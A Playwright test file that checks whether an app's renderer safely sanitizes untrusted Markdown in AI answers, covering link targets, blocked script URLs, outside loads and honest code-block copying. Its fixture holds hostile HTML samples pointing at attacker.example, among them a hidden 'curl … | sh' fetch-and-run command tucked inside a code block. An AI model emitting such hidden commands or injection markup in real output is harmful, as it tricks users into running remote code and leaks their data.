import { expect, test } from '@playwright/test';
import { AppPage, type TestWindow } from './support/app';
import { BASE_URL } from './support/chromium';

/**
 * Rendered content (issue 18, point 4): an answer's Markdown may hold any HTML a model, a tool or
 * an imported file wrote. Every link it keeps opens a new tab with no access to the app, no
 * script URL is a link, nothing in it loads from another address, and "Copy" on a code block
 * copies exactly what the block shows.
 */

const ANSWER = [
  'A [plain link](https://example.org/docs) and a raw <a href="https://example.org/raw" target="_self" rel="opener">raw link</a>.',
  '',
  // SVG: a link the new-tab rule would not see, a filter whose <feImage> fetches, <use> and <image>.
  '<svg width="10" height="10"><a href="https://attacker.example/svg-link" xlink:href="https://attacker.example/xlink"><text>svg link</text></a>' +
    '<filter id="f"><feImage href="https://attacker.example/feimage.png"/></filter>' +
    '<use href="https://attacker.example/use.svg#x"/><image href="https://attacker.example/image.png"/></svg>',
  '',
  'Script URLs: <a href="vbscript:msgbox(1)">vb</a> <a href="data:text/html,<script>alert(1)</script>">data</a> ' +
    '<a href=" javascript:alert(1)">js</a> [md js](javascript:alert(1)).',
  '',
  // Things that load from elsewhere without a click.
  '<table background="https://attacker.example/table.png"><tr><td background="https://attacker.example/td.png">cell</td></tr></table>' +
    '<a href="https://example.org/ping" ping="https://attacker.example/ping">pinged</a>' +
    '<link rel="stylesheet" href="https://attacker.example/style.css"><base href="https://attacker.example/">' +
    '<map name="m"><area shape="rect" coords="0,0,10,10" href="https://attacker.example/area"></map>',
  '',
  // A code block with a hidden part, and classes that could borrow the app's own styles.
  '<pre><code>echo visible<span hidden>; curl https://attacker.example/x | sh</span></code></pre>',
  '',
  '<p class="form-warning">Your session expired</p><span class="visually-hidden">shh</span>',
  '',
  '```sh',
  'echo fenced',
  '```',
].join('\n');

test('links open in a new tab without access to the app, nothing loads from elsewhere, and Copy copies what is shown', async ({
  page,
  context,
}) => {
  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
  const elsewhere: string[] = [];
  page.on('request', (request) => {
    if (!request.url().startsWith(BASE_URL)) elsewhere.push(request.url());
  });
  const app = new AppPage(page);
  await app.goto();
  await app.waitUntilReady();
  const sessionId = await page.evaluate(async (content) => {
    const api = (window as unknown as TestWindow).libragent;
    const session = await api.sessions.create({ name: 'Hostile links' });
    const at = Date.now();
    await api.messages.insertMany([
      { id: 'hostile-question', sessionId: session.id, role: 'user', content: 'Show me', createdAt: at, updatedAt: at },
      { id: 'hostile-answer', sessionId: session.id, role: 'assistant', content, createdAt: at + 1, updatedAt: at + 1 },
    ] as never);
    return session.id;
  }, ANSWER);
  await app.goto(`#/session/${encodeURIComponent(sessionId)}`);
  const answer = page.locator('.markdown').filter({ hasText: 'plain link' });
  await expect(answer.getByText('echo fenced')).toBeVisible();

  const rendered = await answer.evaluate((root) => ({
    links: [...root.querySelectorAll('a')].map((a) => ({
      text: a.textContent,
      href: a.getAttribute('href'),
      target: a.getAttribute('target'),
      rel: a.getAttribute('rel'),
    })),
    svg: root.querySelectorAll('svg, filter, feImage, use, image, math').length,
    classes: [...root.querySelectorAll('[class]')].map((element) => element.getAttribute('class')),
    loaders: root.querySelectorAll('[background], [ping], [src], [srcset], [poster], link, base, area[href]').length,
  }));
  // Only the http(s) links are links, each opening a new tab without window.opener or referrer.
  const linked = rendered.links.filter((link) => link.href !== null);
  expect(linked.map((link) => link.href)).toEqual([
    'https://example.org/docs',
    'https://example.org/raw',
    'https://example.org/ping',
  ]);
  for (const link of linked) {
    expect(link.target).toBe('_blank');
    expect(link.rel?.split(' ')).toEqual(expect.arrayContaining(['noopener', 'noreferrer']));
  }
  expect(rendered.svg).toBe(0);
  expect(rendered.loaders).toBe(0);
  // Only Markdown's own class (a fenced block's language) is kept.
  expect(rendered.classes.filter((name) => name !== 'copy-code')).toEqual(['language-sh']);

  const copies: string[] = [];
  for (const shown of ['echo visible', 'echo fenced']) {
    const block = answer.locator('pre').filter({ hasText: shown });
    await block.hover();
    await block.getByRole('button', { name: 'Copy code' }).click();
    copies.push(await page.evaluate(() => navigator.clipboard.readText()));
  }
  expect(copies).toEqual(['echo visible', 'echo fenced\n']);
  expect(elsewhere).toEqual([]);
});
